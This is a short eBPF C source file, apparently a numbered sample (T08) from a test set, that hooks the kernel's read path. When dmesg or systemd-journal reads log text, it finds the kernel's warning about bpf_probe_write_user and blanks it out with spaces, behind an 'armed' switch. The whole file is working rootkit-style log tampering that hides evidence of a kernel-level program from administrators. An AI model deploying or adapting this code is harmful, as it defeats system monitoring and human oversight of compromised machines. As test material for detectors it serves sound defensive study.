// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T08: the kernel's warning about bpf_probe_write_user is blanked in every buffer it is read into.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

struct scratch {
	char text[256];
};
HASH(kmsg_buf, u64, u64, 64);
PERCPU(kmsg_scratch, struct scratch);
const char needle[] = "is installing a program with bpf_probe_write_user";

SEC("fentry/ksys_read")
int BPF_PROG(kmsg_enter, unsigned int fd, char *buf, size_t count)
{
	u64 id = bpf_get_current_pid_tgid(), p = (u64)buf;
	char comm[16];

	bpf_get_current_comm(comm, sizeof(comm));
	if (STARTS(comm, "dmesg") || STARTS(comm, "systemd-journal"))
		bpf_map_update_elem(&kmsg_buf, &id, &p, BPF_ANY);
	return 0;
}

SEC("fexit/ksys_read")
int BPF_PROG(kmsg_exit, unsigned int fd, char *buf, size_t count, long ret)
{
	u64 id = bpf_get_current_pid_tgid();
	u64 *p = bpf_map_lookup_elem(&kmsg_buf, &id);
	u32 zero = 0;
	struct scratch *s;
	char blank[48];

	if (!p)
		return 0;
	s = bpf_map_lookup_elem(&kmsg_scratch, &zero);
	if (!s)
		return 0;
	bpf_probe_read_user(s->text, sizeof(s->text), (void *)*p);
	for (int i = 0; i < 64; i++) {
		bool hit = true;

		for (int j = 0; j < 12; j++)
			hit &= s->text[i + j] == needle[j];
		if (hit) {
			__builtin_memset(blank, ' ', sizeof(blank));
			if (sample_armed)
				bpf_probe_write_user((void *)(*p + i), blank, sizeof(blank));
			break;
		}
	}
	bpf_map_delete_elem(&kmsg_buf, &id);
	return 0;
}
